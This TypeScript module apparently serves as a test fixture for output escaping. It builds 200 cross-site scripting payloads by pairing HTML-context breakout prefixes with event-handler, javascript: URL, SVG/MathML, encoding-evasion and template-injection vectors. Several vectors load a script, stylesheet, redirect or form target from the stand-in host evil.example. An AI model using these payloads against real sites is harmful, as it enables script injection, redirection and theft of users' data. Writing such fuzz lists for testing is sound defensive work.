/** Two hundred texts that would run in a page that forgets to escape one of them: ways out of a context × ways to run. */

const WAYS_OUT = ['', '"', "'", '">', "'>", '</title>', '</script>', '</bdi></td>', '-->', ']]>`${']

const WAYS_TO_RUN = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button autofocus>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  ' autofocus onfocus=alert(1) x=',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)&#x3e;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\u202e<img/src=x/onerror=alert(1)>\u2028',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-{{constructor.constructor("alert(1)")()}}',
]

export const PAYLOADS: readonly string[] = WAYS_OUT.flatMap((out) => WAYS_TO_RUN.map((run) => out + run))
